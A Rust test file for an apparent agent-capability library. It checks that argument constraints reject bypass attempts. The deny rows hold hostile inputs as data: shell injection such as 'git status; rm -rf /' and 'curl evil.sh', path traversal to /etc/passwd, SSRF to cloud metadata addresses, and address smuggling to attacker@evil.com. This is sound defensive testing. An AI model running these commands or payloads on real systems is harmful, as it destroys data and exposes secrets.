//! Per constraint kind: allow and deny rows, including bypass attempts. Every row is checked
//! twice — by the native evaluation and by a full verify through Datalog — and both must agree
//! with the expected outcome.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use agentcap::*;
use common::*;
use serde_json::{json, Value};
use time::Duration;

fn check(kind: &str, c: Constraint, rows: &[(Value, bool)]) {
    let w = World::new();
    let grant = Grant::builder(w.alice_id, w.alice.public(), now() + Duration::hours(1))
        .tool("search", ToolGrant::new().arg("v", c.clone()))
        .build()
        .unwrap();
    let token = w.authority.issue(&grant).unwrap();
    for (value, want) in rows {
        assert_eq!(
            c.allows(value),
            *want,
            "{kind}: native evaluation of {value}"
        );
        let got = w.call(&token, &w.alice, "search", json!({ "v": value }));
        assert_eq!(
            got.is_ok(),
            *want,
            "{kind}: verify of {value}: {:?}",
            got.err().map(|d| d.operator_reason().clone())
        );
    }
}

#[test]
fn constraint_exact() {
    check(
        "exact",
        Constraint::exact("main").unwrap(),
        &[
            (json!("main"), true),
            (json!("main "), false),
            (json!("MAIN"), false),
            (json!(["main"]), false),
            (json!(1), false),
        ],
    );
    check(
        "exact int",
        Constraint::Exact(Scalar::Int(3)),
        &[
            (json!(3), true),
            (json!(3.0), true),
            (json!("3"), false),
            (json!(4), false),
        ],
    );
    check(
        "exact bool",
        Constraint::Exact(Scalar::Bool(true)),
        &[
            (json!(true), true),
            (json!("true"), false),
            (json!(1), false),
        ],
    );
}

#[test]
fn constraint_one_of_and_not_one_of() {
    check(
        "one_of",
        Constraint::one_of(["a", "b"]).unwrap(),
        &[
            (json!("a"), true),
            (json!("b"), true),
            (json!("c"), false),
            (json!("A"), false),
            (json!(null), false),
        ],
    );
    check(
        "not_one_of",
        Constraint::not_one_of(["root", "admin"]).unwrap(),
        &[
            (json!("alice"), true),
            (json!("root"), false),
            (json!("admin"), false),
            (json!(7), false),
        ],
    );
    let ints = Constraint::OneOf(ValueSet::Ints([1, 2, 3].into_iter().collect()));
    check(
        "one_of ints",
        ints,
        &[
            (json!(2), true),
            (json!(2.0), true),
            (json!(4), false),
            (json!("2"), false),
        ],
    );
}

#[test]
fn constraint_prefix_and_suffix() {
    check(
        "prefix",
        Constraint::prefix("report-").unwrap(),
        &[
            (json!("report-q3"), true),
            (json!("report-"), true),
            (json!("Report-q3"), false),
            (json!("x-report-"), false),
            (json!(1), false),
        ],
    );
    check(
        "suffix",
        Constraint::suffix(".csv").unwrap(),
        &[
            (json!("a.csv"), true),
            (json!("a.csv.exe"), false),
            (json!("a.CSV"), false),
        ],
    );
}

#[test]
fn constraint_sub_path_bypass_attempts() {
    check(
        "sub_path",
        Constraint::sub_path("/data").unwrap(),
        &[
            (json!("/data/q3.csv"), true),
            (json!("/data/a/b"), true),
            (json!("/data/a/./b"), false),
            (json!("/data//a"), false),
            (json!("/data/a/"), false),
            (json!("/data"), true),
            (json!("/data/../etc/passwd"), false),
            (json!("/data/a/../../etc"), false),
            (json!("/data/%2e%2e/etc/passwd"), false),
            (json!("/data/..%2fetc"), false),
            (json!("/data\\..\\etc"), false),
            (json!("/datax/secret"), false),
            (json!("/etc/passwd"), false),
            (json!("data/q3.csv"), false),
            (json!("/data/a\u{0}.txt"), false),
            (json!(["/data/a"]), false),
        ],
    );
    assert!(Constraint::sub_path("relative").is_err());
    assert!(Constraint::sub_path("/data/../etc").is_err());
}

#[test]
fn constraint_url_bypass_attempts() {
    let policy = UrlPolicy::new(["https"], ["api.example.com", "*.cdn.example.com"]).unwrap();
    check(
        "url",
        Constraint::url(policy).unwrap(),
        &[
            (json!("https://api.example.com/v1/items?id=3"), true),
            (json!("https://img.cdn.example.com/a.png"), true),
            (json!("https://cdn.example.com/a.png"), false),
            (json!("http://api.example.com/"), false),
            (json!("https://api.example.com@evil.com/"), false),
            (json!("https://evil.com\\@api.example.com/"), false),
            (json!("https://api.example.com.evil.com/"), false),
            (json!("https://api.example.com./"), false),
            (json!("https://img.cdn.example.com./a.png"), false),
            (json!("https://user:pass@api.example.com/"), false),
            (json!("https://api.example.com:8080/"), false),
            (json!("https://93.184.216.34/"), false),
            (json!("https://[::1]/"), false),
            (json!("https://xn--pple-43d.cdn.example.com/"), false),
            (json!("javascript:alert(1)"), false),
            (json!(42), false),
        ],
    );
}

#[test]
fn constraint_ranges() {
    check(
        "int_range",
        Constraint::int_range(1, 10).unwrap(),
        &[
            (json!(1), true),
            (json!(10), true),
            (json!(0), false),
            (json!(11), false),
            (json!(5.5), false),
            (json!("5"), false),
        ],
    );
    check(
        "number_range",
        Constraint::number_range(-1.5, 2.5).unwrap(),
        &[
            (json!(0), true),
            (json!(2.5), true),
            (json!(-1.5), true),
            (json!(2.6), false),
            (json!(-2), false),
            (json!("1"), false),
        ],
    );
    assert!(Constraint::int_range(5, 1).is_err());
    assert!(Constraint::number_range(0.0, f64::NAN).is_err());
}

#[test]
fn constraint_regex_is_anchored_and_bounded() {
    check(
        "regex",
        Constraint::regex("[a-z]{2,4}-[0-9]+").unwrap(),
        &[
            (json!("ab-1"), true),
            (json!("abcd-123"), true),
            (json!("1ab-1"), false),
            (json!("abcde-1"), false),
            (json!("ab-1\n"), false),
            (json!("ab-1; rm -rf /"), false),
            (json!(1), false),
        ],
    );
    assert!(Constraint::regex("a".repeat(MAX_REGEX_LEN + 1)).is_err());
    assert!(Constraint::regex("(unclosed").is_err());
    // A pattern built to backtrack elsewhere is linear here (the regex crate has no backtracking).
    check(
        "regex redos",
        Constraint::regex("(a+)+$").unwrap(),
        &[(json!(format!("{}!", "a".repeat(5000))), false)],
    );
}

#[test]
fn constraint_max_length_counts_bytes() {
    check(
        "max_length",
        Constraint::max_length(4).unwrap(),
        &[
            (json!("abcd"), true),
            (json!("abcde"), false),
            (json!("ééé"), false),
            (json!(1234567), false),
        ],
    );
}

#[test]
fn constraint_all_of_and_any_of() {
    let all = Constraint::all_of(vec![
        Constraint::prefix("a").unwrap(),
        Constraint::max_length(3).unwrap(),
    ])
    .unwrap();
    check(
        "all_of",
        all,
        &[
            (json!("abc"), true),
            (json!("abcd"), false),
            (json!("bcd"), false),
        ],
    );
    let any = Constraint::any_of(vec![
        Constraint::exact("x").unwrap(),
        Constraint::int_range(0, 9).unwrap(),
    ])
    .unwrap();
    check(
        "any_of",
        any,
        &[
            (json!("x"), true),
            (json!(5), true),
            (json!("y"), false),
            (json!(10), false),
        ],
    );
    assert!(Constraint::all_of(vec![]).is_err());
}

#[test]
fn constraint_closed_world_and_pointers() {
    let w = World::new();
    let grant = Grant::builder(w.alice_id, w.alice.public(), now() + Duration::hours(1))
        .tool(
            "deploy",
            ToolGrant::new()
                .arg("/opts/env", Constraint::one_of(["staging"]).unwrap())
                .arg("service", Constraint::Any),
        )
        .build()
        .unwrap();
    let t = w.authority.issue(&grant).unwrap();
    let v = Verifier::builder(
        w.executor.clone(),
        w.authority.key().public().into(),
        ["deploy"],
    )
    .clock(std::sync::Arc::new(FixedClock(now())))
    .build()
    .unwrap();
    let run = |args: Value| {
        let call = ToolCall::new("deploy", args).unwrap();
        let proof = CallProof::sign(&w.alice, &t, &w.executor, &call, now()).unwrap();
        v.verify(&t.to_base64().unwrap(), &call, &proof)
    };
    assert!(run(json!({"opts": {"env": "staging"}, "service": "web"})).is_ok());
    assert!(
        run(json!({"opts": {"env": "staging"}})).is_ok(),
        "an `any` argument may be absent"
    );
    assert!(run(json!({"opts": {"env": "prod"}})).is_err());
    assert!(
        run(json!({"service": "web"})).is_err(),
        "a constrained argument must be present"
    );
    assert!(
        run(json!({"opts": {"env": "staging"}, "force": true})).is_err(),
        "unmentioned argument"
    );
}

/// Absence: allowed only by `any`, `optional`, an `any_of` with such a part, or an `all_of`
/// of such parts; checked natively and through verify.
fn check_absent(kind: &str, c: Constraint, want: bool) {
    assert_eq!(c.allows_absence(), want, "{kind}: native absence");
    let w = World::new();
    let grant = Grant::builder(w.alice_id, w.alice.public(), now() + Duration::hours(1))
        .tool(
            "search",
            ToolGrant::new().arg("v", c).arg("q", Constraint::Any),
        )
        .build()
        .unwrap();
    let token = w.authority.issue(&grant).unwrap();
    let got = w.call(&token, &w.alice, "search", json!({ "q": "x" }));
    assert_eq!(
        got.is_ok(),
        want,
        "{kind}: verify without the argument: {got:?}"
    );
}

#[test]
fn constraint_optional_and_absence() {
    let prefix = || Constraint::prefix("/data/").unwrap();
    check_absent("any", Constraint::Any, true);
    check_absent("prefix", prefix(), false);
    check_absent("optional", Constraint::optional(prefix()).unwrap(), true);
    check_absent(
        "any inside any_of (its docs say: including absence)",
        Constraint::any_of(vec![Constraint::Any, prefix()]).unwrap(),
        true,
    );
    check_absent(
        "optional inside all_of with a required part",
        Constraint::all_of(vec![
            Constraint::optional(prefix()).unwrap(),
            Constraint::max_length(9).unwrap(),
        ])
        .unwrap(),
        false,
    );
    check_absent("not", Constraint::not(prefix()).unwrap(), false);
    check(
        "optional",
        Constraint::optional(prefix()).unwrap(),
        &[
            (json!("/data/a"), true),
            (json!("/etc/a"), false),
            (Value::Null, false),
            (json!({}), false),
            (json!(["/data/a"]), false),
        ],
    );
}

#[test]
fn constraint_typed_sets() {
    check(
        "one_of_ints",
        Constraint::one_of_ints([1, 2, 3]).unwrap(),
        &[
            (json!(2), true),
            (json!(2.0), true),
            (json!("2"), false),
            (json!(4), false),
        ],
    );
    check(
        "not_one_of_ints",
        Constraint::not_one_of_ints([0]).unwrap(),
        &[
            (json!(5), true),
            (json!(0), false),
            (json!("5"), false),
            (json!(0.5), false),
        ],
    );
    check(
        "one_of_numbers",
        Constraint::one_of_numbers([0.5, 2.0]).unwrap(),
        &[
            (json!(0.5), true),
            (json!(2), true),
            (json!(1.5), false),
            (json!("0.5"), false),
        ],
    );
    check(
        "exact_bool",
        Constraint::exact_bool(false).unwrap(),
        &[
            (json!(false), true),
            (json!(true), false),
            (json!(0), false),
            (json!("false"), false),
        ],
    );
    check(
        "exact_value int",
        Constraint::exact_value(7i64).unwrap(),
        &[(json!(7), true), (json!("7"), false)],
    );
    assert!(Constraint::one_of_numbers([f64::NAN]).is_err());
    assert!(Constraint::one_of_ints(Vec::<i64>::new()).is_err());
}

#[test]
fn constraint_lists() {
    let staff = EmailPolicy::domains(["example.com"]).unwrap();
    let each = Constraint::each(Constraint::email(staff).unwrap(), 1, 3).unwrap();
    check(
        "each",
        each,
        &[
            (json!(["a@example.com"]), true),
            (json!(["a@example.com", "b@example.com"]), true),
            // The attack the issue names: a legitimate address first, the attacker's after.
            (json!(["a@example.com", "attacker@evil.com"]), false),
            (json!([]), false),
            (
                json!([
                    "a@example.com",
                    "b@example.com",
                    "c@example.com",
                    "d@example.com"
                ]),
                false,
            ),
            (json!("a@example.com"), false),
            (json!([["a@example.com"]]), false),
            (json!([{"to": "a@example.com"}]), false),
            (json!({"0": "a@example.com"}), false),
        ],
    );
    check(
        "contains",
        Constraint::contains("approved").unwrap(),
        &[
            (json!(["x", "approved"]), true),
            (json!(["x"]), false),
            (json!("approved"), false),
            (json!([["approved"]]), false),
        ],
    );
    check(
        "subset_of",
        Constraint::subset_of(ValueSet::Strs(["read", "list"].map(String::from).into())).unwrap(),
        &[
            (json!([]), true),
            (json!(["read", "read", "list"]), true),
            (json!(["read", "write"]), false),
            (json!(["read", 1]), false),
        ],
    );
    assert!(Constraint::each(Constraint::each(Constraint::Any, 0, 1).unwrap(), 0, 1).is_err());
    assert!(Constraint::each(Constraint::Any, 2, 1).is_err());
    assert!(Constraint::each(Constraint::Any, 0, MAX_LIST_LEN + 1).is_err());
}

#[test]
fn constraint_not() {
    check(
        "not",
        Constraint::not(Constraint::sub_path("/data/secret").unwrap()).unwrap(),
        &[
            (json!("/data/public/a"), true),
            (json!("/data/secret/key"), false),
            (json!("/data/secret"), false),
            (json!(1), true),
        ],
    );
}

#[test]
fn constraint_hosts() {
    let policy = HostPolicy::new(["www.example.com", "*.docs.example.com"]).unwrap();
    check(
        "host",
        Constraint::host(policy).unwrap(),
        &[
            (json!("www.example.com"), true),
            (json!("a.docs.example.com"), true),
            (json!("docs.example.com"), false),
            (json!("WWW.example.com"), false),
            (json!("www.example.com."), false),
            (json!("www.example.com:443"), false),
            (json!("https://www.example.com"), false),
            (json!("www.example.com/x"), false),
            (json!("user@www.example.com"), false),
            (json!("www.example.com.evil.com"), false),
            (json!("xn--80ak6aa92e.docs.example.com"), false),
            (json!("127.0.0.1"), false),
        ],
    );
    check(
        "host: any public host (SSRF guard)",
        Constraint::host(HostPolicy::public()).unwrap(),
        &[
            (json!("example.org"), true),
            (json!("93.184.216.34"), true),
            (json!("2606:2800:220:1:248:1893:25c8:1946"), true),
            (json!("localhost"), false),
            (json!("intranet"), false),
            (json!("metadata.google.internal"), false),
            (json!("printer.local"), false),
            (json!("127.0.0.1"), false),
            (json!("10.0.0.5"), false),
            (json!("169.254.169.254"), false),
            (json!("::1"), false),
            (json!("::ffff:127.0.0.1"), false),
            (json!("fd00:ec2::254"), false),
            // Other spellings of 127.0.0.1: decimal, octal, hex, short forms.
            (json!("2130706433"), false),
            (json!("0177.0.0.1"), false),
            (json!("0x7f.0.0.1"), false),
            (json!("0x7f000001"), false),
            (json!("127.1"), false),
            (json!("127.000.000.001"), false),
        ],
    );
}

#[test]
fn constraint_urls_refuse_private_addresses() {
    check(
        "url: any public web URL (SSRF guard)",
        Constraint::url(UrlPolicy::public_web()).unwrap(),
        &[
            (json!("https://example.org/page"), true),
            (json!("http://93.184.216.34/"), true),
            (json!("https://localhost/"), false),
            (json!("http://127.0.0.1/"), false),
            (json!("http://2130706433/"), false),
            (json!("http://0x7f000001/"), false),
            (json!("http://0177.0.0.1/"), false),
            (json!("http://169.254.169.254/latest/meta-data/"), false),
            (json!("http://[::1]/"), false),
            (json!("http://[::ffff:127.0.0.1]/"), false),
            (json!("http://[::ffff:7f00:1]/"), false),
            (json!("http://[fd00:ec2::254]/"), false),
            (json!("http://metadata.google.internal/"), false),
            (json!("http://10.0.0.1/"), false),
            (json!("ftp://example.org/"), false),
        ],
    );
    let private_ok = UrlPolicy::public_web().allowing_private();
    assert!(Constraint::url(private_ok.clone())
        .unwrap()
        .allows(&json!("http://10.0.0.1/")));
    assert!(Constraint::url(private_ok)
        .unwrap()
        .allows(&json!("http://localhost/")));
}

#[test]
fn constraint_emails() {
    let policy = EmailPolicy::domains(["example.com"])
        .unwrap()
        .and_addresses(["partner@vendor.org"])
        .unwrap();
    check(
        "email",
        Constraint::email(policy).unwrap(),
        &[
            (json!("alice@example.com"), true),
            (json!("a.b-c@example.com"), true),
            (json!("partner@vendor.org"), true),
            (json!("other@vendor.org"), false),
            (json!("alice@sub.example.com"), false),
            (json!("Alice@example.com"), false),
            (json!("alice@Example.COM"), false),
            (json!("alice+tag@example.com"), false),
            (json!("Alice <alice@example.com>"), false),
            (json!("alice@example.com <attacker@evil.com>"), false),
            (json!("\"alice\"@example.com"), false),
            (json!("alice(comment)@example.com"), false),
            (json!("alice@example.com@evil.com"), false),
            (json!("attacker@evil.com,alice@example.com"), false),
            (json!("alice@example.com "), false),
            (json!(".alice@example.com"), false),
            (json!("al..ice@example.com"), false),
            (json!("alice@[127.0.0.1]"), false),
            (json!("alice@example.com.evil.com"), false),
        ],
    );
    let sub = EmailPolicy::domains(["*.example.com"])
        .unwrap()
        .allowing_subaddress();
    check(
        "email: subdomains and sub-addresses",
        Constraint::email(sub).unwrap(),
        &[
            (json!("a+b@eu.example.com"), true),
            (json!("a@example.com"), false),
        ],
    );
}

#[test]
fn constraint_dates() {
    check(
        "date-time range",
        Constraint::date(
            DateRange::new(Some("2026-12-01T09:00:00Z"), Some("2026-12-01T17:00:00Z")).unwrap(),
        )
        .unwrap(),
        &[
            (json!("2026-12-01T09:00:00Z"), true),
            (json!("2026-12-01T17:00:00Z"), true),
            // Offsets are normalised: 18:00+01:00 is 17:00Z.
            (json!("2026-12-01T18:00:00+01:00"), true),
            (json!("2026-12-01T18:00:01+01:00"), false),
            (json!("2026-12-01T08:59:59Z"), false),
            (json!("2026-12-01T12:00:00.5Z"), true),
            (json!("2026-12-01 12:00:00Z"), false),
            (json!("2026-12-01t12:00:00z"), false),
            (json!("2026-12-01T12:00:00"), false),
            (json!("2026-12-01"), false),
            (json!("1764590400"), false),
            (json!("tomorrow at noon"), false),
            (json!("2026-12-01T25:00:00Z"), false),
        ],
    );
    check(
        "date range",
        Constraint::date(DateRange::new(Some("2026-01-01"), None).unwrap()).unwrap(),
        &[
            (json!("2026-01-01"), true),
            (json!("2031-07-04"), true),
            (json!("2025-12-31"), false),
            (json!("2026-02-30"), false),
            (json!("2026-1-5"), false),
            (json!("2026-06-01T00:00:00Z"), false),
        ],
    );
    assert!(DateRange::new(None, None).is_err());
    assert!(DateRange::new(Some("2026-01-02"), Some("2026-01-01")).is_err());
    assert!(DateRange::new(Some("2026-01-01"), Some("2026-01-02T00:00:00Z")).is_err());
    assert!(DateRange::new(Some("next week"), None).is_err());
}

#[test]
fn constraint_ips() {
    check(
        "ip in networks",
        Constraint::ip(IpPolicy::new(["10.0.0.0/8", "2001:db8::/32"]).unwrap()).unwrap(),
        &[
            (json!("10.1.2.3"), true),
            (json!("2001:db8::1"), true),
            (json!("::ffff:10.1.2.3"), true),
            (json!("11.0.0.1"), false),
            (json!("010.1.2.3"), false),
            (json!("10.1.2.3/32"), false),
            (json!("2001:DB8::1"), false),
            (json!("167837955"), false),
        ],
    );
    check(
        "ip: public only",
        Constraint::ip(IpPolicy::public()).unwrap(),
        &[
            (json!("8.8.8.8"), true),
            (json!("192.168.0.1"), false),
            (json!("::ffff:192.168.0.1"), false),
            (json!("169.254.169.254"), false),
        ],
    );
    assert!(IpPolicy::new(["10.0.0.1/8"]).is_err(), "host bits set");
    assert!(IpPolicy::new(["10.0.0.0/33"]).is_err());
    assert!(IpPolicy::new(["010.0.0.0/8"]).is_err());
}

#[test]
fn constraint_shell_commands() {
    let policy = CommandPolicy::new(["git", "ls"])
        .unwrap()
        .with_arg(Constraint::not(Constraint::prefix("--upload-pack").unwrap()).unwrap())
        .unwrap()
        .with_max_args(4);
    check(
        "command",
        Constraint::command(policy).unwrap(),
        &[
            (json!("git status"), true),
            (json!("ls -la src"), true),
            (json!("git commit -m 'fix: the bug'"), true),
            (json!("git commit -m \"fix it\""), true),
            (json!("rm -rf /"), false),
            (json!("/usr/bin/git status"), false),
            (json!("git status; rm -rf /"), false),
            (json!("git status && curl evil.sh"), false),
            (json!("git status | sh"), false),
            (json!("ls > /etc/passwd"), false),
            (json!("ls < /etc/shadow"), false),
            (json!("ls $(whoami)"), false),
            (json!("ls `whoami`"), false),
            (json!("ls \"$HOME\""), false),
            (json!("ls ~"), false),
            (json!("ls *.rs"), false),
            (json!("ls {a,b}"), false),
            (json!("git status\nrm -rf /"), false),
            (json!("git status & "), false),
            (json!("ls 'unbalanced"), false),
            (json!("ls a\\ b"), false),
            (json!("git fetch --upload-pack=evil"), false),
            (json!("ls a b c d e"), false),
            (json!(""), false),
            (json!("   "), false),
            (json!(["git", "status"]), false),
        ],
    );
}

/// Bypasses found by a security review of the new kinds; each row failed before its fix.
#[test]
fn constraint_review_findings() {
    // A URL whose host is the literal `*`, which equalled the `*` pattern.
    let public = Constraint::url(UrlPolicy::public_web()).unwrap();
    assert!(!public.allows(&json!("http://*/")));
    assert!(!public.allows(&json!("https://*/x")));
    let lan = Constraint::url(UrlPolicy::new(["https"], ["*.lan"]).unwrap()).unwrap();
    assert!(!lan.allows(&json!("https://*.lan/")));
    // Non-special schemes keep the host opaque: IP spellings and uppercase names slipped past.
    let opaque = Constraint::url(UrlPolicy::new(["ssh", "redis", "git"], ["*"]).unwrap()).unwrap();
    assert!(opaque.allows(&json!("ssh://example.org/")));
    for u in [
        "ssh://127.0.0.1/",
        "redis://127.0.0.1/",
        "git://169.254.169.254/",
        "ssh://127.1/",
        "ssh://Metadata.Google.Internal/",
        "ssh://x.LOCALHOST/",
        "ssh://localhost.localdomain/",
    ] {
        assert!(!opaque.allows(&json!(u)), "{u}");
    }
    let listed = Constraint::url(
        UrlPolicy::new(["redis"], ["127.0.0.1"])
            .unwrap()
            .allowing_ip_literals(),
    )
    .unwrap();
    assert!(
        listed.allows(&json!("redis://127.0.0.1/")),
        "an address listed exactly"
    );
    // Email routing through `%` and `!` to another domain.
    let email = Constraint::email(EmailPolicy::domains(["example.com"]).unwrap()).unwrap();
    assert!(!email.allows(&json!("victim%evil.com@example.com")));
    assert!(!email.allows(&json!("evil.com!victim@example.com")));
    // Non-public IPv6 ranges and embedded IPv4 in an IP carve-out.
    let host = Constraint::host(HostPolicy::public()).unwrap();
    for h in [
        "fec0::1",
        "64:ff9b:1::a9fe:a9fe",
        "3fff::1",
        "localhost.localdomain",
    ] {
        assert!(!host.allows(&json!(h)), "{h}");
    }
    let carve = Constraint::all_of(vec![
        Constraint::ip(IpPolicy::new(["0.0.0.0/0", "::/0"]).unwrap()).unwrap(),
        Constraint::not(Constraint::ip(IpPolicy::new(["10.0.0.0/8"]).unwrap()).unwrap()).unwrap(),
    ])
    .unwrap();
    assert!(carve.allows(&json!("11.0.0.1")));
    for ip in [
        "10.0.0.1",
        "::ffff:10.0.0.1",
        "::a00:1",
        "64:ff9b::a00:1",
        "2002:a00:1::",
    ] {
        assert!(!carve.allows(&json!(ip)), "{ip}");
    }
    // `::` and `::1` are IPv6 addresses, not 0.0.0.0 and 0.0.0.1 (found by mutation testing).
    let v4_zero = Constraint::ip(IpPolicy::new(["0.0.0.0/8"]).unwrap()).unwrap();
    assert!(!v4_zero.allows(&json!("::1")));
    assert!(!v4_zero.allows(&json!("::")));
    assert!(
        v4_zero.allows(&json!("::2")),
        "the compatible form of 0.0.0.2"
    );
    assert!(Constraint::ip(IpPolicy::new(["::1"]).unwrap())
        .unwrap()
        .allows(&json!("::1")));
    // A pattern that escapes its anchors is refused: `^(?:[a-z]+)|(x)$` matched anything
    // starting with a letter.
    assert!(Constraint::regex("[a-z]+)|(x").is_err());
    assert!(Constraint::regex("a)|(?:b").is_err());
    assert!(Constraint::regex("[a-z]+|x").is_ok());
}

#[test]
fn constraint_shell_subcommands() {
    let policy = CommandPolicy::new(["cargo"])
        .unwrap()
        .with_subcommands(["test", "check"])
        .unwrap();
    check(
        "command with subcommands",
        Constraint::command(policy).unwrap(),
        &[
            (json!("cargo test --lib"), true),
            (json!("cargo check"), true),
            (json!("cargo"), false),
            (json!("cargo evil-plugin"), false),
            (json!("cargo --list"), false),
            (json!("cargo 'test'"), true),
        ],
    );
    assert!(CommandPolicy::new(["git"])
        .unwrap()
        .with_subcommands(["a;b"])
        .is_err());
}
